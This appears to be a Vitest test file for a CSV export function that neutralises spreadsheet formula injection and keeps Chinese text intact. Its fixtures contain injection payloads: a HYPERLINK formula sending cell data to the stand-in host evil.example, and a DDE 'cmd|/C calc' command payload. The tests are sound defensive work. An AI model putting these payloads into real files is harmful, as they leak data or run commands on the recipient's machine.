import { describe, expect, it } from "vitest";
import { type PersonCheck, toCsv } from "../../domain/gates/index.ts";
import { csvCell } from "../../domain/kernel/csv.ts";

const leading = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\u3000"];

describe("CSV cells Excel would run as formulas", () => {
  it.each(leading.map((c) => [JSON.stringify(c), c]))("a cell starting with %s is shown as text", (_, c) => {
    const cell = csvCell(`${c}HYPERLINK("http://evil.example/?"&A1,"点我")`);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    expect(unquoted).toBe(`'${c}HYPERLINK("http://evil.example/?"&A1,"点我")`);
  });

  it("leaves Chinese text, ids and the characters inside a value alone", () => {
    expect(["杨雪", "黄涛-组长", "yang-xue", "完成率 = 92%", "A+B", "3-2"].map(csvCell)).toEqual([
      "杨雪",
      "黄涛-组长",
      "yang-xue",
      "完成率 = 92%",
      "A+B",
      "3-2",
    ]);
  });

  it("quotes separators, quotes and line breaks", () => {
    expect(csvCell('王"芳",部门')).toBe('"王""芳"",部门"');
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell("第一行\r\n第二行")).toBe('"第一行\r\n第二行"');
  });

  it("neutralises a name and a problem in a whole export, Chinese intact", () => {
    const results: PersonCheck[] = [{ personId: "p1", eligible: false, problem: { code: "x", detail: "@SUM(1+1)*cmd|' /C calc'!A0" } }];
    const csv = toCsv(results, new Map([["p1", '=HYPERLINK("http://evil.example","杨雪")']]));
    expect(csv.split("\r\n")[1]).toBe(`p1,"'=HYPERLINK(""http://evil.example"",""杨雪"")",no,'@SUM(1+1)*cmd|' /C calc'!A0`);
  });
});
